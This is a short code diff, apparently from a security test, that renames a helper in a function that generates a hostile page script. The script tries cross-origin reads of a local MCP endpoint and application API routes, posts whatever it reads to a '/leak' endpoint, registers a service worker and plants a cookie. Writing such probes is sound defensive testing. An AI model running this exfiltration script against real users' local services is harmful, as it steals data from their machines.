@@ -32,9 +32,9 @@ let otherEndpoint: string;
 /** Asks everything that a page of the hostile server would like to have, and sends home what it gets. */
 function writeScript(): string {
   return `
-    const tell = (what) => fetch("/leak", { method: "POST", body: what });
+    const report = (what) => fetch("/leak", { method: "POST", body: what });
     document.title = "ran";
-    tell("ran");
+    report("ran");
     const post = (type) => ({ method: "POST", headers: { "content-type": type }, body: ${JSON.stringify(INITIALIZE)} });
     for (const [url, init] of [
       ["${otherEndpoint}/mcp", post("application/json")],
@@ -43,10 +43,10 @@ function writeScript(): string {
       ["${application}api/v1beta/workloads", {}],
       ["${application}", {}],
     ]) {
-      fetch(url, init).then((answer) => answer.text()).then((text) => tell("read " + url + text.slice(0, 200)), () => tell("refused"));
+      fetch(url, init).then((answer) => answer.text()).then((text) => report("read " + url + text.slice(0, 200)), () => report("refused"));
       fetch(url, { ...init, mode: "no-cors" }).catch(() => undefined);
     }
-    navigator.serviceWorker?.register("/worker.js").then(() => tell("worker"));
+    navigator.serviceWorker?.register("/worker.js").then(() => report("worker"));
     document.cookie = "left=behind";`;
 }
 
